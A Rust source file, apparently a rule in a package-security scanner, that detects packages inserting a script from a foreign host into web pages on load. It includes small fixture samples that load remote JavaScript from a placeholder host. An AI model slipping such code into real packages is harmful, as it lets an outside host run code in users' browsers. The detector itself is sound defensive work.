//! Code that runs in a page adds a script from elsewhere.

use super::judge::{self, ByTrigger};
use super::provenance::Whose;
use super::{Context, Declaration, Example, Finding, host};
use crate::behaviours::Behaviour;
use crate::model::{Severity, SurfaceKind};

pub(super) static FINDING: Declaration = Declaration {
    id: "page-script-injection",
    title: "Puts a stranger's script into the page as soon as it is loaded",
    severity: Severity::High,
    summary: "As soon as a page loads the package, it adds a script from a host that is not the package's own. Whoever runs that host runs code in every page that uses the package.",
    advice: "Look at what the host serves. If the package has no reason to load it, don't use it in a page.",
    benign_when: "The package is the loader of a service, and its user gave it the address or the key.",
    references: &["CWE-506", "CWE-829", "T1059.007", "T1189"],
    examples: &[
        Example {
            name: "a bundle adds a script element on load",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"var s = document.createElement("script");
s.src = "https://cdn.other.invalid/x.js";
document.head.appendChild(s);"#,
                ),
            ],
        },
        Example {
            name: "a bundle writes a script into the page",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"document.write('<script src="//cdn.other.invalid/x.js"></script>');"#,
                ),
            ],
        },
        Example {
            name: "a loader that its user calls",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.load = (key) => {
  var s = document.createElement("script");
  s.src = "https://maps.example/js?key=" + key;
  document.head.appendChild(s);
};"#,
                ),
            ],
        },
        Example {
            name: "a pixel that counts visits",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"new Image().src = "https://count.example/p.gif";"#,
                ),
            ],
        },
    ],
    detect,
};

const AT_MOST: ByTrigger = ByTrigger {
    import: Severity::High,
    asked: Severity::Low,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    for behaviour in context.behaviours {
        if !behaviour.reach.loads_on(SurfaceKind::Import) {
            continue;
        }
        let Some(url) = address(context, behaviour) else {
            continue;
        };
        let whose = context.home.whose(&url);
        if matches!(
            whose,
            Some(Whose::Own | Whose::Registry | Whose::Local) | None
        ) {
            continue;
        }
        let message = format!("adds a script from {url} to the page");
        let mut finding = Finding::of_behaviour(&FINDING, behaviour, message);
        finding.parts = vec![url];
        judge::by_trigger(AT_MOST, &mut finding);
        found.push(finding);
    }
}

/// Where the script that a behaviour adds comes from.
fn address(context: &Context<'_>, behaviour: &Behaviour) -> Option<String> {
    let target = behaviour.target.as_deref()?;
    match behaviour.what.id {
        "code.script-injection" => {
            let tag = target.to_ascii_lowercase().find("<script")?;
            let inner = target.get(tag..)?.split('>').next()?;
            let (_, src) = inner.split_once("src=")?;
            let url = src.trim_start_matches(['"', '\'', '\\']);
            let url = url.split(['"', '\'', ' ', '\\']).next()?;
            let is_elsewhere = url.contains("://") || url.starts_with("//");
            (is_elsewhere && host::host(url).is_some()).then(|| url.to_owned())
        }
        // The address of an element that was made as a script in the same file.
        "network.beacon" => {
            let makes_script = context.behaviours.iter().any(|one| {
                one.what.id == "code.script-injection"
                    && one.target.as_deref() == Some("script")
                    && one.reach.loads_on(SurfaceKind::Import)
                    && one
                        .sites
                        .iter()
                        .any(|a| behaviour.sites.iter().any(|b| near(*a, *b)))
            });
            let path = host::path(target);
            let path = path.split(['?', '#']).next().unwrap_or(path);
            let is_image = [".gif", ".png", ".jpg", ".svg", ".css"]
                .iter()
                .any(|end| path.ends_with(end));
            (makes_script && !is_image).then(|| target.to_owned())
        }
        _ => None,
    }
}

/// Whether two places are in the same few lines of a file.
fn near(a: crate::value::Place, b: crate::value::Place) -> bool {
    const FEW_LINES: u32 = 600;
    a.file == b.file && a.span.start.abs_diff(b.span.start) <= FEW_LINES
}
